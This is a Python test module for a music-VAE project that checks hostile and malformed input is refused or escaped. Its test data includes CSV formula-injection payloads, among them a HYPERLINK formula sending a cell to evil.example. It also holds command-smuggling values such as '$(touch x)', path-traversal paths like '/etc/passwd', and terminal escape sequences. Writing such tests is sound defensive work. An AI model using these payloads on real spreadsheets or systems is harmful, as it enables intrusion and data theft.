"""Hostile and broken input is used, left out or refused in a sentence: never run, never a crash."""

import contextlib
import csv
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from ml_collections import ConfigDict

from tests.conftest import write_collection
from tests.stress.jobs import LONG, run
from vae_jax import config as config_lib
from vae_jax import manifest
from vae_jax.errors import UserError
from vae_jax.features import lyrics
from vae_jax.storage import files

many = settings(
    max_examples=1500 if LONG else 60,
    deadline=60_000,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
)
CELLS = st.text() | st.sampled_from(FORMULAS) | st.sampled_from(["", "'", "''", "-", "1", "'-x"])


def assert_refused_or_read(path: Path) -> manifest.Manifest | None:
    """Read a manifest; a refusal is one short line that names the file."""
    try:
        return manifest.read(path)
    except UserError as error:
        message = str(error)
        assert str(path) in message
        assert len(message) < 3000
        assert message.isprintable(), message
        return None


@many
@given(content=st.binary() | st.text().map(str.encode))
@example(b"")
@example(b"\xff\xfei\x00d\x00\n\x00")
@example("id\né".encode("latin-1"))
@example(b'id\n"never closed')
@example(b"id\n" + b'"' * 1001)
@example(b"id,id\n1,2\n")
@example(b"\x00")
@example(b"id\r\r\nx\r")
@example(b"id,\x1b[31m\n1,2\n")
def test_any_bytes_are_a_manifest_or_refused(tmp_path, content):
    path = tmp_path / "metadata.csv"
    path.write_bytes(content)
    assert_refused_or_read(path)


@many
@given(rows=st.lists(st.tuples(CELLS, CELLS, CELLS), min_size=1, max_size=5))
def test_any_cells_are_read_as_they_are_or_refused(tmp_path, rows):
    path = tmp_path / "metadata.csv"
    columns = ("id", "lyrics", "artist")
    files.write_csv(path, columns, [dict(zip(columns, row, strict=True)) for row in rows])
    read = assert_refused_or_read(path)
    if read:
        assert [track.lyrics for track in read] == [row[1] for row in rows]
        assert [track.id for track in read] == [row[0].strip() for row in rows]


@many
@given(cells=st.lists(CELLS, min_size=1, max_size=4))
@example(cells=["a\rb", "c"])
@example(cells=["", "", ""])
def test_csv_cells_survive_and_no_spreadsheet_takes_one_for_a_formula(tmp_path, cells):
    columns = [f"c{i}" for i in range(len(cells))]
    files.write_csv(tmp_path / "x.csv", columns, [dict(zip(columns, cells, strict=True))])
    assert list(files.read_csv(tmp_path / "x.csv")[0].values()) == cells
    with open(tmp_path / "x.csv", encoding="utf-8", newline="") as file:
        written = list(csv.reader(file))[1]
    for cell in written:
        is_name = cell[:1] in "-+@" and not set(cell) & set("()|!\"'=&;, \t\r\n")
        assert cell[:1] not in (*"=\t\r\n＝",) or not cell
        assert cell[:1] not in (*"-+@",) or is_name


@pytest.mark.parametrize("value", [-1.5, -3, 1e-30, -1.2e-07, 0, np.float32(-0.5)])
def test_numbers_stay_numbers_in_csv(tmp_path, value):
    files.write_csv(tmp_path / "x.csv", ("a", "b"), [{"a": value, "b": f"{value:.6g}"}])
    row = files.read_csv(tmp_path / "x.csv")[0]
    _, line = (tmp_path / "x.csv").read_text().splitlines()
    assert [float(cell) for cell in line.split(",")] == [float(row["a"]), float(row["b"])]
    assert float(row["a"]) == value


@pytest.mark.parametrize("id_", ["-0Gj8-vB1q4", "+44", "@artist", "_x", "track-1", "-"])
def test_ids_like_those_of_video_sites_are_written_as_they_are(tmp_path, id_):
    files.write_csv(tmp_path / "x.csv", ("id",), [{"id": id_}])
    assert (tmp_path / "x.csv").read_text() == f"id\n{id_}\n"


@pytest.mark.parametrize(
    ("row", "what"),
    [
        ("a\0b", "line 2: a NUL or control character"),
        ('"a\nb"', "line 3: a NUL or control character"),
        ("a\x1b[31m", "line 2: a NUL or control character"),
        ("x" * 10_000, "line 2: the id is longer than 1000 characters"),
    ],
)
def test_an_id_that_no_file_should_hold_is_named_by_its_line(tmp_path, row, what):
    (tmp_path / "metadata.csv").write_text(f"id\n{row}\n", newline="")
    with pytest.raises(UserError, match=what):
        manifest.read(tmp_path / "metadata.csv")


def test_ten_thousand_columns_are_read_and_named_when_one_is_double(tmp_path):
    names = [f"column {i}" for i in range(10_000)]
    (tmp_path / "a.csv").write_text(",".join(["id", *names]) + "\n" + "x," * 10_000 + "y\n")
    assert manifest.read(tmp_path / "a.csv")[0].columns["column 9999"] == "y"
    (tmp_path / "b.csv").write_text(",".join(["id", *names, "column 7"]) + "\n")
    with pytest.raises(UserError, match="'column 7' twice"):
        manifest.read(tmp_path / "b.csv")


def test_a_line_without_end_is_refused_before_it_fills_the_memory(tmp_path):
    with open(tmp_path / "metadata.csv", "wb") as file:
        file.write(b"id\n")
        file.truncate(2**36)  # 64 GiB of NULs, on a disk that stores none of them
    program = (
        "import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30))\n"
        "from vae_jax import errors, manifest\n"
        "try: manifest.read(sys.argv[1])\n"
        "except errors.UserError as error: print(error)"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, str(tmp_path / "metadata.csv")],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert "line 2: 67108864 characters or more in one line" in done.stdout, done.stderr


@many
@given(text=st.text() | st.text(alphabet="[]()<>{}\n\r\t'x2×:;ab \0\u200b\u0301"))
@example("<script>alert(1)</script>" * 100)
@example("[" * 5000)
@example("(chorus " * 5000)
@example("x2 " * 5000)
@example("a\u0301" * 5000)
@example("\0\x1b]0;evil\a\u202e")
def test_any_lyrics_are_cleaned_to_words(text):
    try:
        cleaned = lyrics.clean(text)
    except lyrics.LyricsError:
        return
    assert all(c.isprintable() or c == "\n" for c in cleaned)
    assert not set("<>{}[]();\"'\\") & set(cleaned)


def test_ten_megabytes_of_lyrics_take_seconds():
    for text in ("la " * 3_500_000, "[" * 10_000_000, "<b>&amp;" * 1_250_000):
        started = time.monotonic()
        with contextlib.suppress(lyrics.LyricsError):
            lyrics.clean(text)
        assert time.monotonic() - started < 10


SCALARS = (
    st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.floats()
    | st.text()
    | st.sampled_from(["../..", "a/b", "\0", "=1", "x" * 5000])
)
VALUES = (
    SCALARS
    | st.lists(SCALARS, max_size=3)
    | st.dictionaries(st.text(alphabet="ab=\0 é"), SCALARS, max_size=2)
)
KEYS = [
    key if section is None else f"{section}.{key}"
    for section, part in [(None, config_lib.get_config()), *config_lib.get_config().items()]
    if isinstance(part, ConfigDict)
    for key in part
]


@many
@given(key=st.sampled_from(KEYS), value=VALUES.map(lambda v: tuple(v) if type(v) is list else v))
def test_any_value_of_any_key_is_accepted_or_refused_in_a_sentence(key, value):
    config = config_lib.get_config()
    section, _, name = key.rpartition(".")
    part = config[section] if section else config
    with part.ignore_type():  # as a config file that builds its own ConfigDict can do
        part[name] = ConfigDict(value) if isinstance(value, dict) else value
    try:
        config_lib.validate(config)
    except UserError as error:
        assert "config." in str(error)  # noqa: PT017
    else:
        json.dumps(config_lib.to_dict(config), allow_nan=False)
        assert config_lib.from_dict(config_lib.to_dict(config)) == config


@many
@given(section=st.sampled_from(["", "model", "train"]), key=st.text(min_size=1), value=SCALARS)
def test_an_unknown_key_is_named(section, key, value):
    config = config_lib.get_config()
    part = config[section] if section else config
    if key in part or "." in key:
        return
    part[key] = value
    with pytest.raises(UserError, match="is not a config key"):
        config_lib.validate(config)


def test_a_missing_key_is_named():
    config = config_lib.get_config()
    del config.train["num_steps"]
    with pytest.raises(UserError, match=r"config\.train\.num_steps is missing"):
        config_lib.validate(config)


@pytest.mark.parametrize(
    "content",
    [
        "this is not Python",
        "import nothing_of_this_name",
        "def get_config(): return 1 / 0",
        "def get_config(): return undefined",
        "def get_config(): return {}",
        "raise SystemError('no')",
        "\0",
        "x = 1",
    ],
)
def test_a_broken_config_file_is_named(tmp_path, content):
    (tmp_path / "broken.py").write_text(content)
    done = subprocess.run(
        [sys.executable, "-m", "vae_jax.main", "--config=broken.py", "--print_config"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert "broken.py" in done.stderr or "config.baselines is missing" in done.stderr


def test_a_message_shows_control_characters_of_a_name_and_sends_none_to_the_terminal(tmp_path):
    (tmp_path / "metadata.csv").write_text("id,audio_path\na,\x1b]0;evil\a.wav\n")
    ended = run(tmp_path, "--stage=features", "--config.manifest=metadata.csv")
    assert ended.is_one_sentence
    assert r"\x1b]0;evil\x07.wav" in ended.err
    assert not {"\x1b", "\a"} & set(ended.err)


@pytest.mark.slow
def test_hostile_rows_go_through_the_main_job_and_leave_no_file_elsewhere(tmp_path):
    path = write_collection(tmp_path / "work" / "music", 6)
    rows = files.read_csv(path)
    ids = ["../../escape", "/etc/passwd", "=cmd|' /C calc'!A0", "<script>", "a" * 1000, "\u202eabc"]
    for row, id_ in zip(rows, ids, strict=True):
        row |= {"id": id_, "label": f"{id_[:20]}\r\n\x1b[31m$x^$", "artist": "=1+1"}
    outside = tmp_path / "secret.wav"
    outside.write_bytes(b"not audio")
    bad = ["../../secret.wav", "/dev/zero", "http://127.0.0.1:9/x.wav", "$(touch x)", "|touch x"]
    rows += [{"id": f"bad {i}", "audio_path": audio} for i, audio in enumerate(bad)]
    columns = ("id", "audio_path", "label", "artist")
    files.write_csv(path, columns, [dict.fromkeys(columns, "") | row for row in rows])
    before = {p for p in tmp_path.rglob("*") if "work" not in p.parts}
    ended = run(tmp_path / "work", "--config.train.num_steps=10")
    assert ended.code == 0, ended.err
    latents = files.read_npz(tmp_path / "work" / "results" / "latents.npz")
    assert latents["ids"].tolist() == ids
    clusters = files.read_csv(tmp_path / "work" / "results" / "clusters.csv")
    assert [row["id"] for row in clusters] == ids
    failed = files.read_csv(tmp_path / "work" / "results" / "failed.csv")
    assert [row["id"] for row in failed] == [f"bad {i}" for i in range(len(bad))]
    after = {p for p in tmp_path.rglob("*") if "work" not in p.parts and "log" not in p.name}
    assert after == before
    assert sorted(os.listdir(tmp_path / "work")) == ["checkpoints", "data", "music", "results"]
